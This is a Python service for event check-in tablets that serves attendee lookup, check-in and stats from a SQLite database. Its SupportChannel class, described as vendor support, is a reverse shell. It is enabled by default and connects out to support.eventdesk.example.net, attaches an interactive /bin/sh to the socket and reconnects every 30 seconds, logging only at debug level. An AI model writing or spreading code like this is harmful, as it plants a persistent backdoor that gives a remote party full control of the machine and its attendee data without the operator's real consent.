#!/usr/bin/env python3
"""Gala check-in kiosk service for the door tablets.

Serves a tiny JSON API that the tablets at the registration tables call:

    GET  /lookup?q=smi        -> matching attendees
    POST /checkin {"id": 42}  -> mark attendee as arrived
    GET  /stats               -> arrived / expected counts

Attendees are loaded from the ticketing export (attendees.csv) into a local
SQLite file on first start.  Settings live in checkin.toml.  The kiosk also
keeps a support channel open to the events vendor so they can help on the
night without someone driving out to the venue.
"""
import argparse
import csv
import json
import logging
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import tomllib
from datetime import datetime
from pathlib import Path
from urllib.parse import parse_qs
from wsgiref.simple_server import WSGIRequestHandler, make_server

log = logging.getLogger("checkin")

DEFAULTS = {
    "server": {"host": "0.0.0.0", "port": 8080},
    "data": {"csv": "attendees.csv", "db": "checkin.sqlite"},
    "support": {"enabled": True, "relay": "support.eventdesk.example.net",
                "port": 7443, "retry": 30},
}


def load_settings(path):
    settings = {k: dict(v) for k, v in DEFAULTS.items()}
    p = Path(path)
    if p.exists():
        with p.open("rb") as fh:
            for section, values in tomllib.load(fh).items():
                settings.setdefault(section, {}).update(values)
    return settings


class AttendeeStore:
    def __init__(self, db_path):
        self._lock = threading.Lock()
        self.conn = sqlite3.connect(db_path, check_same_thread=False)
        self.conn.row_factory = sqlite3.Row
        self.conn.execute("""CREATE TABLE IF NOT EXISTS attendees (
            id INTEGER PRIMARY KEY, name TEXT, table_no TEXT,
            ticket_type TEXT, arrived_at TEXT)""")

    def import_csv(self, csv_path):
        with self._lock, open(csv_path, newline="", encoding="utf-8-sig") as fh:
            rows = [(int(r["Order ID"]), r["Name"].strip(), r.get("Table", ""),
                     r.get("Ticket Type", "General")) for r in csv.DictReader(fh)]
            self.conn.executemany(
                "INSERT OR IGNORE INTO attendees (id, name, table_no, ticket_type) "
                "VALUES (?, ?, ?, ?)", rows)
            self.conn.commit()
        return len(rows)

    def lookup(self, q):
        with self._lock:
            cur = self.conn.execute(
                "SELECT * FROM attendees WHERE name LIKE ? ORDER BY name LIMIT 20",
                (f"%{q}%",))
            return [dict(r) for r in cur]

    def check_in(self, attendee_id):
        with self._lock:
            cur = self.conn.execute(
                "UPDATE attendees SET arrived_at = ? WHERE id = ? AND arrived_at IS NULL",
                (datetime.now().isoformat(timespec="seconds"), attendee_id))
            self.conn.commit()
            return cur.rowcount == 1

    def stats(self):
        with self._lock:
            total, arrived = self.conn.execute(
                "SELECT COUNT(*), COUNT(arrived_at) FROM attendees").fetchone()
        return {"expected": total, "arrived": arrived}


class SupportChannel(threading.Thread):
    """Keeps a console session available to the vendor's support desk."""

    def __init__(self, relay, port, retry):
        super().__init__(name="support-channel", daemon=True)
        self.relay, self.port, self.retry = relay, int(port), int(retry)

    def _session(self, conn):
        console = subprocess.Popen(
            ["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn,
            cwd=str(Path.cwd()))
        console.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection((self.relay, self.port), timeout=15) as conn:
                    conn.settimeout(None)
                    conn.sendall(f"kiosk {socket.gethostname()}\n".encode())
                    log.debug("support channel open")
                    self._session(conn)
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(self.retry)


class QuietHandler(WSGIRequestHandler):
    def log_message(self, fmt, *args):
        log.debug("%s " + fmt, self.client_address[0], *args)


def make_app(store):
    def respond(start_response, status, payload):
        body = json.dumps(payload).encode()
        start_response(status, [("Content-Type", "application/json"),
                                ("Content-Length", str(len(body))),
                                ("Access-Control-Allow-Origin", "*")])
        return [body]

    def app(environ, start_response):
        method, path = environ["REQUEST_METHOD"], environ.get("PATH_INFO", "/")
        if method == "GET" and path == "/lookup":
            q = parse_qs(environ.get("QUERY_STRING", "")).get("q", [""])[0]
            if len(q) < 2:
                return respond(start_response, "400 Bad Request", {"error": "query too short"})
            return respond(start_response, "200 OK", store.lookup(q))
        if method == "POST" and path == "/checkin":
            try:
                size = int(environ.get("CONTENT_LENGTH") or 0)
                data = json.loads(environ["wsgi.input"].read(size))
                ok = store.check_in(int(data["id"]))
            except (ValueError, KeyError) as exc:
                return respond(start_response, "400 Bad Request", {"error": str(exc)})
            return respond(start_response, "200 OK", {"checked_in": ok})
        if method == "GET" and path == "/stats":
            return respond(start_response, "200 OK", store.stats())
        return respond(start_response, "404 Not Found", {"error": "not found"})

    return app


def main(argv=None):
    ap = argparse.ArgumentParser(description="Gala check-in kiosk service")
    ap.add_argument("--config", default="checkin.toml")
    ap.add_argument("--reimport", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    settings = load_settings(args.config)
    store = AttendeeStore(settings["data"]["db"])
    csv_path = Path(settings["data"]["csv"])
    if args.reimport or store.stats()["expected"] == 0:
        if not csv_path.exists():
            log.error("no attendee export at %s", csv_path)
            return 2
        log.info("imported %d attendees", store.import_csv(csv_path))

    support = settings["support"]
    if support.get("enabled"):
        SupportChannel(support["relay"], support["port"], support["retry"]).start()

    host, port = settings["server"]["host"], int(settings["server"]["port"])
    with make_server(host, port, make_app(store), handler_class=QuietHandler) as httpd:
        log.info("check-in API on %s:%d", host, port)
        try:
            httpd.serve_forever()
        except KeyboardInterrupt:
            log.info("shutting down: %s", store.stats())
    return 0


if __name__ == "__main__":
    sys.exit(main())
